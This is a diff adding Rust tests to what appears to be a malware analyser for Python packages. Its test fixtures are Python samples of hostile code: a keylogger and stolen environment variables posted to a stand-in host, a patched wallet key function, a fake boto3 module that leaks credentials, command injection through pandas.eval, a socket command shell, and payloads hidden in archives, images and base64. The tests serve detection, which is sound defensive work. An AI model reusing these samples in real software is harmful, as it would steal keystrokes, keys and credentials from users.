@@ -874,6 +874,14 @@ fn archives_memory_and_new_libraries_are_ends_of_flows() {
     assert!(flows(&analysed(Role::Package, safe)).is_empty());
 }
 
+fn tar_of(name: &str, data: &[u8]) -> Vec<u8> {
+    let mut header = tar::Header::new_ustar();
+    header.set_size(data.len() as u64);
+    let mut builder = tar::Builder::new(Vec::new());
+    builder.append_data(&mut header, name, data).unwrap();
+    builder.into_inner().unwrap()
+}
+
 /// A zip of one stored member, as a literal of Python.
 fn stored_zip(name: &str, data: &[u8]) -> String {
     let (length, size) = ((name.len() as u16).to_le_bytes(), (data.len() as u32).to_le_bytes());
@@ -896,6 +904,11 @@ fn pure_libraries_are_computed() {
     gzip.write_all(COMMAND.as_bytes()).unwrap();
     let gzip = base64::engine::general_purpose::STANDARD.encode(gzip.finish().unwrap());
     let zip = stored_zip("a/b.txt", COMMAND.as_bytes());
+    let plain_tar = tar_of("a/b.txt", COMMAND.as_bytes());
+    let mut tgz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
+    tgz.write_all(&plain_tar).unwrap();
+    let tgz = base64::engine::general_purpose::STANDARD.encode(tgz.finish().unwrap());
+    let tar = format!("b'{}'", plain_tar.iter().map(|byte| format!("\\x{byte:02x}")).collect::<String>());
     let spaced: String = COMMAND.chars().flat_map(|c| [c, '~']).collect();
     let numbered = COMMAND.bytes().map(|byte| format!("%{byte};")).collect::<String>();
     let codes = listed(|byte| byte.to_string());
@@ -931,6 +944,19 @@ s = ''.join(chr(int(n)) for n in re.findall(r'\d+', '{numbered}'))"
         format!("import zipfile, io\ns = zipfile.ZipFile(io.BytesIO({zip})).read('a/b.txt').decode()"),
         format!(
             "import zipfile, io\nwith zipfile.ZipFile(io.BytesIO({zip})) as z:\n    s = z.open(z.namelist()[0]).read().decode()"
+        ),
+        format!(
+            "import zipfile, io\nz = zipfile.ZipFile(io.BytesIO({zip}))\ns = ''.join(z.read(i.filename).decode() for i in z.infolist())"
+        ),
+        format!(
+            "import tarfile, io\nt = tarfile.open(fileobj=io.BytesIO({tar}))\ns = t.extractfile('a/b.txt').read().decode()"
+        ),
+        format!(
+            "import tarfile, io, base64\nwith tarfile.open(mode='r:gz', fileobj=io.BytesIO(base64.b64decode('{tgz}'))) as t:\n    \
+             for m in t:\n        s = t.extractfile(m).read().decode()"
+        ),
+        format!(
+            "import tarfile, io\nt = tarfile.open(fileobj=io.BytesIO({tar}))\ns = t.extractfile(t.getmembers()[0].name).read().decode()"
         ),
         format!("s = '{{a}}{{b}}'.format_map({{'a': '{left}', 'b': '{right}'}})"),
         format!("from string import Template\ns = Template('$a${{b}}').substitute(a='{left}', b='{right}')"),
@@ -1113,4 +1139,176 @@ fn fields_of_a_data_class_are_filled() {
     let sample = "import os, requests\nfrom dataclasses import dataclass, field\n@dataclass\nclass R:\n    env: dict = field(default_factory=lambda: dict(os.environ))\n    url: str = 'http://a.invalid'\n    def __post_init__(self):\n        requests.post(self.url, json=self.env)\nR()";
     let analysis = analysed(Role::Package, sample);
     assert_eq!(flow(&analysis, "environment.read", "network.send").phase, Phase::Import);
+}
+
+#[test]
+fn an_archive_in_memory_is_read_within_bounds() {
+    use crate::decode::Archive;
+    let tar = [tar_of("a", b"first"), tar_of("a", b"second")];
+    // Without the end that stands between them; the last of one name counts.
+    let both = [&tar[0][..1024], &tar[1][..]].concat();
+    assert_eq!(Archive::Tar.names(&both), ["a", "a"]);
+    assert_eq!(Archive::Tar.member(&both, Some("a"), 100).unwrap(), b"second");
+    assert_eq!(Archive::Tar.member(&both, Some("a"), 3), None);
+    assert_eq!(Archive::Tar.member(&both, Some("b"), 100), None);
+    for damaged in [&b"PK\x01\x02"[..], b"PK\x05\x06\0\0", b"", &both[..700], &[0; 2048]] {
+        assert_eq!(Archive::Zip.member(damaged, None, 100), None);
+        assert!(Archive::Zip.names(damaged).is_empty());
+        Archive::Tar.names(damaged);
+    }
+    // A directory of many entries is not read at all.
+    assert!(Archive::Zip.names(&b"PK\x01\x02".repeat(2_000)).is_empty());
+}
+
+#[test]
+fn a_function_put_in_the_place_of_another_is_seen_however_it_is_wrapped() {
+    let head = "import requests, functools\nfrom eth_account import Account\n\
+                def f(*a):\n requests.post('https://relay.invalid', json={'k': a})\n";
+    for put in [
+        "Account.from_key = f",
+        "Account.from_key = staticmethod(f)",
+        "Account.from_key = classmethod(f)",
+        "Account.from_key = functools.wraps(Account.from_key)(f)",
+        "Account.from_key = functools.update_wrapper(f, Account.from_key)",
+        "Account.from_key = staticmethod(functools.lru_cache(maxsize=None)(f))",
+        "Account.from_key = functools.partial(f)",
+        "setattr(Account, 'from_key', staticmethod(f))",
+        "class S:\n def g(self, *a):\n  f(*a)\nAccount.from_key = S().g",
+        "@functools.wraps(Account.from_key)\ndef g(*a):\n return f(*a)\nAccount.from_key = g",
+    ] {
+        let analysis = analysed(Role::Package, &format!("{head}{put}\n"));
+        let flow = flow(&analysis, "code.patch", "network.send");
+        assert_eq!(flow.source_callee, "eth_account.Account.from_key", "{put}");
+    }
+    let wrapped = "import functools, os\ndef deco(f):\n @functools.wraps(f)\n def inner(*a):\n  return f(*a)\n return inner\n\
+                   @deco\ndef run(c):\n os.system(c)\n@functools.lru_cache(maxsize=2)\ndef twice(c):\n run(c)\ntwice('id')\n";
+    assert_eq!(call(&analysed(Role::Init, wrapped), "os.system").phase, Phase::Import);
+}
+
+#[test]
+fn a_module_under_the_name_of_another_project_is_seen() {
+    let sample = "import sys, types, requests\nclass M(types.ModuleType):\n def client(self, *a, **k):\n  \
+                  requests.post('https://relay.invalid', json=k)\nsys.modules['boto3'] = M('boto3')\n";
+    let analysis = analysed(Role::Init, sample);
+    let put = call(&analysis, "sys.modules.__setitem__");
+    assert_eq!(
+        (put.behaviour.as_slice(), put.text.as_slice()),
+        (&["code.module".to_owned()][..], &["boto3".to_owned()][..])
+    );
+    let flow = flow(&analysis, "code.patch", "network.send");
+    assert_eq!((flow.source_callee.as_str(), flow.phase), ("boto3.*", Phase::Call));
+    for sample in [
+        "import sys, requests\nclass M:\n def __getattr__(self, n):\n  def f(*a, **k):\n   \
+         requests.post('https://relay.invalid', json=k)\n  return f\nsys.modules['boto3'] = M()\n",
+        "import sys, requests\ndef make(*a, **k):\n requests.post('https://relay.invalid', json=k)\n\
+         m = type(sys)('boto3')\nm.client = make\nsys.modules['boto3'] = m\n",
+        "import sys, types, requests\nm = types.ModuleType('boto3')\n\
+         m.client = lambda *a: requests.post('https://relay.invalid', json=a)\nsys.modules['boto3'] = m\n",
+    ] {
+        let analysis = analysed(Role::Init, sample);
+        assert_eq!(self::flow(&analysis, "code.patch", "network.send").source_callee, "boto3.*", "{sample}");
+    }
+    for own in [
+        "import sys\nsys.modules[__name__] = object()\n",
+        "import sys\nclass M: pass\nsys.modules['pkg.lazy'] = M()\n",
+        "import sys\nold = sys.modules['boto3']\n",
+    ] {
+        assert!(calls(&analysed(Role::Init, own)).is_empty(), "{own}");
+    }
+}
+
+#[test]
+fn text_for_the_evaluator_of_another_library_is_code() {
+    for sample in [
+        "import pandas as pd\npd.eval(\"@__import__('os').system('id')\")\n",
+        "import numexpr\nnumexpr.evaluate(\"__import__('os').system('id')\")\n",
+        "import pandas\nd = pandas.DataFrame([1])\nd.query(\"@__import__('os').system('id')\")\n",
+    ] {
+        let analysis = analysed(Role::Init, sample);
+        assert_eq!(call(&analysis, "os.system").text, ["id"], "{sample}");
+        assert!(layers(&analysis).iter().any(|layer| layer.sink == "code.exec"));
+    }
+    assert!(calls(&analysed(Role::Init, "import pandas as pd\npd.eval('a + b * 2')\n")).is_empty());
+    let fetched = "import pandas as pd, requests\npd.eval(requests.get('https://relay.invalid').text)\n";
+    flow(&analysed(Role::Init, fetched), "network.fetch", "code.exec");
+}
+
+#[test]
+fn what_a_server_is_sent_is_a_source() {
+    for body in [
+        "for line in self.rfile:\n   subprocess.getoutput(line.decode())",
+        "subprocess.getoutput(self.rfile.readline().decode())",
+        "subprocess.getoutput(self.request.recv(1024).decode())",
+    ] {
+        let sample = format!(
+            "import socketserver, subprocess\nclass H(socketserver.StreamRequestHandler):\n def handle(self):\n  {body}\n"
+        );
+        flow(&analysed(Role::Package, &sample), "web.receive", "process.spawn");
+    }
+}
+
+#[test]
+fn a_method_that_stands_before_the_one_that_listens_is_walked_again() {
+    let sample = "import requests\nfrom pynput import keyboard\nclass Spy:\n def __init__(self):\n  self.t = ''\n \
+                  def report(self):\n  requests.post('https://relay.invalid', data=self.t)\n \
+                  def press(self, key):\n  self.t += str(key)\n \
+                  def start(self):\n  keyboard.Listener(on_press=self.press).start()\n";
+    flow(&analysed(Role::Package, sample), "keyboard.capture", "network.send");
+    let started = format!("{sample}s = Spy()\ns.report()\ns.start()\n");
+    flow(&analysed(Role::Init, &started), "keyboard.capture", "network.send");
+    let functions = "import requests, threading\nfrom pynput import keyboard\nlog = ''\ndef send():\n global log\n \
+                     requests.post('https://relay.invalid', data=log)\n log = ''\n threading.Timer(60, send).start()\n\
+                     def press(k):\n global log\n log += str(k)\nsend()\nkeyboard.Listener(on_press=press).start()\n";
+    flow(&analysed(Role::Init, functions), "keyboard.capture", "network.send");
+    let inner = "import requests\nfrom pynput import keyboard\ndef main():\n log = []\n def send():\n  \
+                 requests.post('https://relay.invalid', data=''.join(log))\n def press(k):\n  log.append(str(k))\n send()\n \
+                 keyboard.Listener(on_press=press).start()\nmain()\n";
+    flow(&analysed(Role::Init, inner), "keyboard.capture", "network.send");
+}
+
+#[test]
+fn what_is_left_out_is_told() {
+    let gap = |source: &str, word: &str| {
+        let gaps = analysed(Role::Package, source).gaps;
+        assert!(gaps.iter().any(|gap| gap.detail.contains(word)), "{word}: {gaps:?}");
+    };
+    let files: String = (0..600).map(|at| format!("open('file-{at:04}.txt', 'w').write('x')\n")).collect();
+    gap(&files, "more files are written");
+    let calls: String = (0..21_000).map(|at| format!("open('{at}')\n")).collect();
+    gap(&calls, "more calls are walked");
+    // One file that is written again and again is one file.
+    let again: String = (0..600).map(|_| "open('file.txt', 'w').write('x')\n").collect();
+    assert!(analysed(Role::Package, &again).gaps.is_empty());
+}
+
+#[test]
+fn what_a_source_takes_out_of_a_picture_is_a_layer_of_it() {
+    let source = "from PIL import Image\nexec(hidden(Image.open('a.png')))\n";
+    let unit = Unit {
+        path: "pkg/a.py",
+        role: Role::Package,
+        phase: Phase::Import,
+        module: "pkg.a",
+        source: source.as_bytes(),
+        entered: &[],
+    };
+    let behaviours = behaviours();
+    let found = |bytes: &[u8]| {
+        let found = crate::Found { bytes, operation: "pixels", line: 2, sink: "code.exec" };
+        crate::analyse_found(&unit, &found, &behaviours, &mut Budget::default())
+    };
+    let analysis = found(format!("import os\nos.system('{COMMAND}')").as_bytes());
+    let layer = layers(&analysis)[0];
+    assert_eq!(
+        (layer.operation.as_slice(), layer.sink.as_str(), layer.depth),
+        (&["pixels".to_owned()][..], "code.exec", 1)
+    );
+    assert_eq!(call(&analysis, "os.system").text, [COMMAND]);
+    assert_eq!((analysis.layers[0].steps[0].line, analysis.facts.len()), (2, 3));
+    use base64::Engine;
+    let coded =
+        base64::engine::general_purpose::STANDARD.encode(format!("import os\nos.system('{COMMAND}')  # padding"));
+    let analysis = found(coded.as_bytes());
+    assert_eq!(layers(&analysis)[0].operation, ["pixels", "base64"]);
+    assert!(found(b"only words of a licence, and no more").facts.is_empty());
 }
